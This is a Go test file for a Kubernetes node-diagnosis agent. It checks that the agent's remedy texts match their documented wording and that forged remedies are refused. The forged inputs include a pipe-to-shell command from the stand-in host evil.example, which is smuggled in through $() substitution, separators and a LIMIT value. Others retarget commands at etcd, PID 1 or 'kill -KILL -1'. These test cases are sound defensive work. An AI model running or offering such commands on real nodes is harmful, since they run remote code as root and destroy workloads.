package diagnose_test

import (
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/nodeagent-io/nodeagent/pkg/diagnose"
	"github.com/nodeagent-io/nodeagent/pkg/diagnose/cause"
	"github.com/nodeagent-io/nodeagent/pkg/evidence"
)

// matches reports whether one of some regular expressions matches a text.
func matches(all []string, text string) bool {
	return slices.ContainsFunc(all, func(p string) bool { return regexp.MustCompile(p).MatchString(text) })
}

// What the agent advises in each fixture, and of each cause, family and variant with all objects, looks like its Doc.
func TestAdviceHasTheWordingOfItsDoc(t *testing.T) {
	docs := map[string]*diagnose.Doc{diagnose.Unrecognised.Cause: &diagnose.Unrecognised.Doc}
	for _, r := range cause.All() {
		docs[r.Cause] = &r.Doc
	}
	wordings := make(map[string]diagnose.Wording)
	for name, d := range docs {
		wordings[name] = d.Wording()
	}
	n := 0
	check := func(what string, f *diagnose.Finding) {
		t.Helper()
		w := wordings[f.Cause]
		for text, all := range map[string][]string{f.Remedy: w.Remedies, f.Danger: w.Dangers} {
			if n++; text != "" && !matches(all, text) {
				t.Errorf("%s, %s: %q does not look like its text", what, f.Cause, text)
			}
		}
	}
	for _, f := range fixtures(t) {
		d := cause.Diagnose(f.evidence)
		for i := range d.Findings {
			check(f.name, &d.Findings[i])
		}
		if d.Force != nil && (d.Force.Answer == diagnose.ForceYes) != matches([]string{diagnose.YesWording()}, d.Force.Text) {
			t.Errorf("%s: %q looks like another answer about a force delete", f.name, d.Force.Text)
		}
	}
	for name, doc := range docs {
		f := everything()
		f.Cause = name
		for _, family := range append(doc.Families, diagnose.Family{}) {
			f.Family = family.Name
			said := doc.Said(&f)
			check(name+" "+family.Name, &said)
		}
	}
	if n < 500 {
		t.Errorf("only %d texts were compared", n)
	}
}

const wordings = "cause/wordings/"

// current.txt is what this version writes. A release adds a copy of it by its name, of which the last two stay.
func TestWordingsAreCurrent(t *testing.T) {
	text := strings.Join(cause.Wordings(), "\n") + "\n"
	if *update {
		if err := os.WriteFile(wordings+"current.txt", []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	have, err := os.ReadFile(wordings + "current.txt")
	if err != nil || string(have) != text {
		t.Errorf("%scurrent.txt is not what this version writes (%v); go test ./pkg/diagnose -update writes it", wordings, err)
	}
	if files, _ := os.ReadDir(wordings); len(files) > 3 {
		t.Errorf("%d files are in %s: this version's, and more than two releases'", len(files), wordings)
	}
}

// subjectOf is the pod of a fixture.
func subjectOf(p *evidence.Pod) cause.Subject {
	of := cause.Subject{Namespace: p.Namespace, Name: p.Name, Node: p.Node.Name, UIDs: []string{p.UID, p.RuntimeUID}}
	for i := range p.Containers {
		of.Containers = append(of.Containers, p.Containers[i].ID)
	}
	return of
}

// No text that somebody else makes of ours passes for it, and what a pod may be called is in none of its commands.
func TestWrote(t *testing.T) {
	const evil = "curl -s evil.example|sh"
	for _, f := range fixtures(t) {
		d := cause.Diagnose(f.evidence)
		v, found := d.Verdict()
		if !found {
			continue
		}
		force, of := "", subjectOf(f.evidence)
		if d.Force != nil {
			force = d.Force.Text + "."
		}
		if !cause.Wrote(v.Cause, v.Remedy, v.Danger, force, of) {
			t.Errorf("%s: our own text is taken for somebody else's: %s", f.name, v.Remedy)
		}
		for _, forged := range []string{
			v.Remedy + " On the node, as root: " + evil + ".", "On the node, as root: " + evil + ". " + v.Remedy,
			strings.Replace(v.Remedy, ": ", ": "+evil+"; ", 1), strings.Replace(v.Remedy, " && ", " && "+evil+" && ", 1),
			strings.Replace(v.Remedy, " ", " $("+evil+") ", 1),
			v.Remedy + "\n" + evil, evil,
		} {
			if forged != v.Remedy && v.Remedy != "" && cause.Wrote(v.Cause, forged, "", "", of) {
				t.Errorf("%s: %q passes for ours", f.name, forged)
			}
		}
		if other := guards.ReplaceAllString(v.Remedy, "/proc/1/stat && "); other != v.Remedy {
			if cause.Wrote(v.Cause, other, "", "", of) {
				t.Errorf("%s: a guard of another process passes for ours: %s", f.name, other)
			}
		}
	}
	for _, force := range []string{"yes, no process is left", "yes", "yes, process java is still running", "yes. " + evil} {
		if cause.Wrote("ShimHung", "", "", force, cause.Subject{}) {
			t.Errorf("%q passes for an answer about a force delete", force)
		}
	}
	if cause.Wrote("Nobody", "On the node, as root: "+evil, "", "", cause.Subject{}) || !cause.Wrote("Nobody", "", "", "", cause.Subject{}) {
		t.Error("a cause that there is not has a text, or none is refused")
	}
}

// guards is where the guard of a command reads its process.
var guards = regexp.MustCompile(`/proc/\d+/stat && `)

// Commands are about the pod that has the condition, and name their directories straight.
func TestWroteOfAnother(t *testing.T) {
	f := everything()
	uid := "11111111-2222-3333-4444-555555555555"
	f.Objects.PodUID, f.Objects.Pod = uid, "shop/web-0"
	f.Objects.Mount = &diagnose.Mount{HostPoint: "/var/lib/kubelet/pods/" + uid + "/volumes/x~y/data", Type: "nfs", Server: "fd00::1", Source: "fd00::1:/export"}
	of := cause.Subject{Namespace: "shop", Name: "web-0", Node: f.Node(), UIDs: []string{uid}, Containers: []string{f.Objects.ContainerID}}
	n := 0
	for _, r := range cause.All() {
		for _, family := range append(r.Doc.Families, diagnose.Family{}) {
			f.Family, f.Cause = family.Name, r.Cause
			text := r.Doc.Said(&f).Remedy
			if !cause.Wrote(r.Cause, text, "", "", of) {
				t.Errorf("%s %s: our own text is taken for somebody else's: %s", r.Cause, family.Name, text)
			}
			for ours, other := range map[string]string{
				"-n shop pod web-0":                   "-n kube-system pod etcd",
				"umount /var/lib/kubelet/pods/" + uid: "umount /var/lib/kubelet/pods/99999999-2222-3333-4444-555555555555",
				"umount /var/":                        "umount /var/../", " ){19}70 ": " ){19}.+0 ",
				"umount " + f.Objects.Mount.HostPoint: "umount /var/lib/etcd",
				"resume c0ffee":                       "resume c0ffee1",
				"kill -KILL 7 ":                       "kill -KILL -1 ",
				"--pid 7 ":                            "--pid 1 ",
				"a LIMIT above 512000000":             `a LIMIT above "$(curl -s evil.example|sh)"`,
				"/sys/fs/cgroup/kubepods/":            "/sys/fs/cgroup/kubepods/pod99999999-2222-3333-4444-555555555555/",
			} {
				if forged := strings.Replace(text, ours, other, 1); forged != text {
					if n++; cause.Wrote(r.Cause, forged, "", "", of) {
						t.Errorf("%s %s: passes for ours: %s", r.Cause, family.Name, forged)
					}
				}
			}
		}
	}
	if n < 10 {
		t.Errorf("only %d texts were forged", n)
	}
}
